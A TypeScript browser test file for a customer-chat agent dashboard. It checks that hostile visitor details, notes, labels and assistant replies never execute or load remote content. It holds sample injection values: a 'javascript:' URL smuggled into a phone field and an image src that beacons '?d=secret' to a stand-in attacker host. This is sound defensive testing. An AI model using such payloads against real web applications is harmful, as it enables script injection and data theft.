import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Agent, addAgents, buildDashboard, openAgent, pane, visitorPane } from '../support/agent.ts'
import { type Client, createClient } from '../support/client.ts'
import { type FakeConnector, send, startFakeConnector } from '../support/fake-connector.ts'
import { expectHarmless, hostileTexts } from '../support/hostile.ts'
import { type Server, startServer } from '../support/server.ts'

const evil = 'https://evil.example'

let backend: FakeConnector
let server: Server
let client: Client
let anna: Agent

beforeAll(async () => {
  buildDashboard()
  backend = await startFakeConnector()
  server = await startServer({
    config: {
      sites: [{ id: 'shop', name: 'The shop', connector: { kind: 'http', url: `${backend.url}/chat` } }],
      outbound: { allow: [`127.0.0.1:${backend.port}`] },
    },
  })
  client = createClient(server)
  await addAgents(client, 'Anna Marsh')
  const limits = { messagesPerSession: 1000, messagesPerSitePerDay: 100_000, messagesPerIpPerMinute: 10_000 }
  await client.call('PUT', '/settings', { body: { settings: { security: { limits } } } })
  anna = await openAgent(server, 'Anna Marsh')
})
afterAll(async () => {
  await anna.close()
  await server[Symbol.asyncDispose]()
  await backend.close()
})

const answering = (messages: unknown[]) => backend.script(() => [send('done', { messages })])
const short = (text: string, most: number) => text.replace(/\s+/g, ' ').slice(0, most)
const text = hostileTexts.join('\n\n')
const line = (at: number, most = 200) => short(hostileTexts[at % hostileTexts.length]!, most)

/** A conversation with a hostile visitor, page and details. */
async function startHostile(at: number): Promise<string> {
  const contact = {
    name: line(at),
    email: `x${at}@example.com`,
    phone: line(at + 1, 40),
    company: line(at + 2),
    Size: line(at + 3),
  }
  const context = {
    pageUrl: `${evil}/?q=${encodeURIComponent(line(at))}`,
    pageTitle: line(at + 4),
    referrer: `${evil}/`,
    utm: line(at + 5),
    locale: line(at + 6, 30),
  }
  const body = {
    message: text,
    contact,
    context,
    user: { id: line(at, 100), plan: line(at + 7) },
    metadata: { note: line(at + 8) },
  }
  return (await client.post('/conversations', body)).body.id
}

test('[threat 3] a visitor’s details and the team’s texts are never executed', async () => {
  for (let at = 0; at < hostileTexts.length; at += 3) {
    answering([{ type: 'text', text: 'All is well.' }])
    const id = await startHostile(at)
    const label = (await client.post('/labels', { name: short(`${at} ${line(at)}`, 40) })).body
    await client.call('PATCH', `/conversations/${id}`, {
      body: { labels: [label.id], attributes: { plan: line(at, 900) } },
    })
    await client.post(`/conversations/${id}/notes`, { text })
    await client.post('/canned-replies', { shortcut: `c${at}`, title: line(at, 100), text })
    await anna.show(id)
    const { page } = anna
    await visitorPane(page).getByText(`x${at}@example.com`).waitFor()
    await pane(page).getByRole('article', { name: 'Note' }).waitFor()
    await pane(page).getByRole('button', { name: 'Labels', exact: true }).click()
    await page.getByRole('dialog', { name: 'Labels' }).getByRole('button').first().waitFor()
    await page.keyboard.press('Escape')
    await page.keyboard.press('r')
    await page.keyboard.type('/c')
    await page.getByRole('option').first().waitFor()
    await expectHarmless(anna, page.locator('#root'))
  }
  expect(anna.errors).toEqual([])
})

test('[threat 3] [threat 4] the assistant’s reply runs no script and loads no picture', async () => {
  const image = { src: `${evil}/?d=secret`, alt: line(1) }
  const actions = [
    { id: 'a', kind: 'reply', label: line(0), value: line(4) },
    { id: 'b', kind: 'url', label: line(5), url: `${evil}/go` },
    { id: 'c', kind: 'tel', label: line(2), phone: 'javascript:alert(9)' },
  ]
  const card = { title: line(3), body: text, image, actions }
  answering([
    { type: 'text', text },
    { type: 'options', text, options: hostileTexts.map((value) => ({ label: short(value, 200), value })) },
    { type: 'card', ...card },
    { type: 'carousel', cards: [card, { ...card, title: line(7) }] },
    {
      type: 'links',
      title: line(8),
      links: [{ label: line(9), url: `${evil}/link`, description: text.slice(0, 500) }],
    },
    { type: 'form', title: line(10), fields: [{ name: 'name', label: line(1), type: 'text', placeholder: line(2) }] },
    { type: 'notice', text, tone: 'error' },
  ])
  const id = await startHostile(1)
  await anna.show(id)
  const { page } = anna
  await pane(page).getByText('Picture: ').first().waitFor()
  for (const source of hostileTexts.slice(0, 3)) await pane(page).getByText(source).first().waitFor()
  await expectHarmless(anna, page.locator('#root'))
  const links = await pane(page)
    .locator('a')
    .evaluateAll((all) => all.map((one) => [one.getAttribute('rel'), one.getAttribute('target')]))
  expect(links.length).toBeGreaterThan(5)
  for (const [rel, target] of links)
    expect([rel, target === '_blank' || target === null]).toEqual(['noopener noreferrer nofollow', true])
  expect(anna.errors).toEqual([])
})
